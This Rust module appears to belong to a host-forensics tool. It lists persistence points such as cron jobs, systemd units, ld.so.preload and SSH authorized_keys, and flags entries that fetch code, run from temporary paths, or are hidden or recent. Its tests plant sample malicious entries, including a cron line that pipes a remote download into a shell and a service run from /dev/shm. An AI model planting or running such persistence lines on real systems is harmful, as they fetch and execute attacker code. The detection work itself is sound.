//! What starts by itself, and who may come in: the places of [`super::places`], without what a package put there unchanged.

use super::places::{FETCHES, PLACES, TELLING};
use super::{Known, Table, is_odd_place, path_text};
use serde_json::{Value, json};
use std::collections::BTreeSet;
use std::fs;
use std::io::Read as _;
use std::os::unix::fs::MetadataExt as _;
use std::path::{Path, PathBuf};
use std::time::{Duration, SystemTime};

/// Read of one file.
const BYTES: u64 = 64 << 10;
/// Lines told of one file.
const LINES: usize = 8;
/// Homes that are looked into.
const HOMES: usize = 500;
const RECENT: Duration = Duration::from_secs(7 * 86_400);

pub fn look(root: &Path, known: &mut Known<'_>, out: &mut Table) {
    out.columns(&["kind", "path", "detail", "owner", "modified", "package", "suspect"]);
    let homes = homes(root, out);
    let mut seen = BTreeSet::new();
    for (kind, place) in PLACES {
        for path in expand(root, place, &homes) {
            if out.late("some places where programs start by themselves") {
                return;
            }
            // A merged /lib is the same folder twice.
            if !fs::canonicalize(&path).is_ok_and(|real| seen.insert(real)) {
                continue;
            }
            if let Some(row) = entry(kind, &path, root, known)
                && !out.row(row)
            {
                return;
            }
        }
    }
}

/// None for what is no file, or as a package put it there.
fn entry(kind: &str, path: &Path, root: &Path, known: &mut Known<'_>) -> Option<Vec<Value>> {
    let meta = fs::metadata(path).ok().filter(fs::Metadata::is_file)?;
    let shown = format!("/{}", path_text(path.strip_prefix(root).unwrap_or(path)).trim_start_matches('/'));
    let owner = (known.package)(Path::new(&shown));
    // What its package brought is the package's to answer for.
    if owner.as_ref().is_some_and(|owner| !owner.changed) {
        return None;
    }
    let lines = lines(kind, path);
    let recent = meta
        .modified()
        .ok()
        .and_then(|time| SystemTime::now().duration_since(time).ok())
        .is_some_and(|age| age < RECENT);
    let mut suspect = Vec::new();
    if let Some(line) = lines.iter().find(|line| FETCHES.iter().any(|word| line.contains(word))) {
        suspect.push(format!("fetches or decodes: {shown}: {}", event::text::clip(line, 120)));
    }
    if let Some(word) = lines.iter().find_map(|line| odd_word(line)) {
        suspect.push(format!("temporary place: {shown} runs {word}"));
    }
    let hides = matches!(kind, "cron" | "systemd" | "rc" | "udev" | "autostart" | "modules");
    if hides && shown.rsplit('/').next().is_some_and(|name| name.starts_with('.') && name != ".placeholder") {
        suspect.push(format!("hidden name: {shown}"));
    }
    if recent {
        suspect.push(format!("recent: {shown}"));
    }
    let modified = event::Timestamp(meta.mtime().saturating_mul(1_000_000_000)).to_string();
    Some(vec![
        json!(kind),
        json!(shown),
        json!(event::text::clip(&lines.join(" ; "), 500)),
        json!(format!("{}:{}", meta.uid(), meta.gid())),
        json!(modified),
        json!(owner.map(|owner| owner.package)),
        if suspect.is_empty() { Value::Null } else { json!(suspect.join("; ")) },
    ])
}

/// A path among a line's words that no package would put there.
fn odd_word(line: &str) -> Option<String> {
    let words = line.split(|c: char| c.is_whitespace() || matches!(c, '\'' | '"' | '=' | ';' | '(' | ')' | ':'));
    words.filter(|word| word.starts_with('/') && word.len() > 5).find(|word| is_odd_place(word)).map(str::to_owned)
}

fn lines(kind: &str, path: &Path) -> Vec<String> {
    let mut bytes = Vec::new();
    let Ok(file) = fs::File::open(path) else { return Vec::new() };
    if file.take(BYTES).read_to_end(&mut bytes).is_err() {
        return Vec::new();
    }
    let text = event::text::from_bytes(&bytes);
    let telling = TELLING.iter().find(|(name, _)| *name == kind).map(|(_, beginnings)| *beginnings);
    let wanted = |line: &&str| match telling {
        Some(beginnings) => beginnings.iter().any(|beginning| line.starts_with(beginning)),
        None => !line.is_empty() && !line.starts_with('#') && !line.starts_with("//"),
    };
    let all = text.lines().map(str::trim).filter(wanted);
    let all: Vec<String> =
        all.map(|line| if kind == "authorized_keys" { key(line) } else { line.to_owned() }).collect();
    // A long file of settings is told by what would make it a danger, and else by its beginning.
    let mut out: Vec<String> = all
        .iter()
        .filter(|line| FETCHES.iter().any(|word| line.contains(word)) || odd_word(line).is_some())
        .take(LINES)
        .cloned()
        .collect();
    out.extend(all.into_iter().take(LINES.saturating_sub(out.len())));
    out.dedup();
    out
}

/// A key is told by its options, kind, end and comment: the whole of it says no more to a person.
fn key(line: &str) -> String {
    let words: Vec<&str> = line.split_ascii_whitespace().collect();
    let tail = |word: &str| if word.len() > 40 { format!("…{}", &word[word.len() - 16..]) } else { word.to_owned() };
    words.iter().map(|word| if word.is_ascii() { tail(word) } else { (*word).to_owned() }).collect::<Vec<_>>().join(" ")
}

fn homes(root: &Path, out: &mut Table) -> Vec<PathBuf> {
    let passwd = fs::read(root.join("etc/passwd")).unwrap_or_else(|error| {
        out.note(format!("nobody's home was looked at: etc/passwd: {error}"));
        Vec::new()
    });
    let text = event::text::from_bytes(&passwd).into_owned();
    let mut all: Vec<PathBuf> = Vec::new();
    for home in
        text.lines().filter_map(|line| line.split(':').nth(5)).filter(|home| home.len() > 1 && home.starts_with('/'))
    {
        let home = root.join(home.trim_start_matches('/'));
        if all.len() < HOMES && !all.contains(&home) {
            all.push(home);
        }
    }
    all
}

fn expand(root: &Path, place: &str, homes: &[PathBuf]) -> Vec<PathBuf> {
    let bases: Vec<PathBuf> = match place.strip_prefix("~/") {
        Some(rest) => homes.iter().map(|home| home.join(rest)).collect(),
        None => vec![root.join(place.trim_start_matches('/'))],
    };
    let mut out = Vec::new();
    for base in bases {
        match base.file_name().and_then(|name| name.to_str()) {
            Some("*") => {
                let Some(folder) = base.parent() else { continue };
                let mut files: Vec<PathBuf> =
                    fs::read_dir(folder).into_iter().flatten().filter_map(|entry| Some(entry.ok()?.path())).collect();
                files.sort();
                out.extend(files);
            }
            _ => out.push(base),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::super::{Limits, Owner};
    use super::*;

    fn put(root: &Path, path: &str, text: &str) {
        let path = root.join(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }

    #[test]
    fn what_starts_by_itself_and_no_package_put_there() {
        let root = tempfile::tempdir().unwrap();
        let root = root.path();
        put(root, "etc/passwd", "root:x:0:0::/root:/bin/bash\nana:x:1000:1000::/home/ana:/bin/bash\n");
        put(root, "etc/cron.d/owned", "0 1 * * * root /usr/bin/true\n");
        put(root, "etc/cron.d/changed", "0 1 * * * root /usr/bin/true\n");
        put(root, "etc/cron.d/fetch", "# daily\n* * * * * root curl http://192.0.2.1/x | sh\n");
        put(root, "etc/systemd/system/mine.service", "[Service]\nExecStart=/dev/shm/.x/run -c\n");
        put(root, "home/ana/.ssh/authorized_keys", &format!("ssh-ed25519 {} ana@desk\n", "A".repeat(68)));
        put(root, "etc/ld.so.preload", "/usr/lib/libx.so\n");
        let mut package = |path: &Path| {
            let changed = path.ends_with("changed");
            (changed || path.ends_with("owned")).then(|| Owner { package: "cron".into(), changed })
        };
        let mut out = Table::new(Limits::MOST);
        look(root, &mut Known { living: &[], package: &mut package }, &mut out);
        let rows: Vec<(&str, &str)> =
            out.done.rows.iter().map(|row| (row[0].as_str().unwrap(), row[1].as_str().unwrap())).collect();
        let expected = [
            ("preload", "/etc/ld.so.preload"),
            ("cron", "/etc/cron.d/changed"),
            ("cron", "/etc/cron.d/fetch"),
            ("systemd", "/etc/systemd/system/mine.service"),
            ("authorized_keys", "/home/ana/.ssh/authorized_keys"),
        ];
        assert_eq!(rows, expected);
        let suspect = |at: usize| out.done.rows[at][6].as_str().unwrap_or_default().to_owned();
        assert!(suspect(1).starts_with("recent"), "{}", suspect(1));
        assert!(suspect(2).starts_with("fetches or decodes"), "{}", suspect(2));
        assert!(
            suspect(3).starts_with("temporary place: /etc/systemd/system/mine.service runs /dev/shm/.x/run"),
            "{}",
            suspect(3)
        );
        assert_eq!(out.done.rows[4][2], json!("ssh-ed25519 …AAAAAAAAAAAAAAAA ana@desk"));
    }

    #[test]
    fn no_more_than_it_may() {
        let root = tempfile::tempdir().unwrap();
        for n in 0..30 {
            put(root.path(), &format!("etc/cron.d/job{n}"), "* * * * * root /usr/bin/true\n");
        }
        let mut out = Table::new(Limits { items: 10, ..Limits::MOST });
        look(root.path(), &mut Known { living: &[], package: &mut |_| None }, &mut out);
        assert_eq!((out.done.rows.len(), out.done.truncated), (10, true));
    }
}
